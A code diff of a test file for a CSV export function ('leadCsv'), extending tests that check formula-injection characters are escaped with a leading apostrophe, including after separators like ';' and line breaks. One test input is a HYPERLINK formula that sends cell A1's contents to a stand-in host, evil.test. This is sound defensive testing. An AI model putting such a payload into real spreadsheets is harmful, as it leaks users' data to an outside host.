@@ -67,9 +67,7 @@ describe('a table for a spreadsheet', () => {
     '+971 4 000',
     '-1',
     '@SUM(A1)',
-    '\t=1',
-    '\r=1',
-    '\n=1',
+    '\tx',
     ' =1',
     '＝1',
     '=HYPERLINK("http://evil.test/?"&A1)',
@@ -77,7 +75,22 @@ describe('a table for a spreadsheet', () => {
     expect(leadCsv({ ...lead, message })).toContain(`,"'${message.replaceAll('"', '""')}",`);
   });
 
-  test.each(['1-1', 'a=b', "O'Hara", '50%'])('leaves %j alone', (message) => {
-    expect(leadCsv({ ...lead, message })).toContain(`,"${message}",`);
+  test.each([
+    ['Hi;=1', "Hi;'=1"],
+    ['Hi; =1;+1', "Hi;' =1;'+1"],
+    ['Hi;"=1', 'Hi;\'""=1'],
+    ['a\t-1', "a\t'-1"],
+    ['a\r\n\r\n@A1', "a\r\n\r\n'@A1"],
+    ['a\r=1', "a\r'=1"],
+    ['\n=1', "'\n'=1"],
+  ])('keeps a cell that %j could begin by another separator from being one', (message, shown) => {
+    expect(leadCsv({ ...lead, message })).toContain(`,"${shown}",`);
   });
+
+  test.each(['1-1', 'a=b', 'a, -b; c', 'a\n\nb = c', "O'Hara", '50%'])(
+    'leaves %j alone',
+    (message) => {
+      expect(leadCsv({ ...lead, message })).toContain(`,"${message}",`);
+    },
+  );
 });
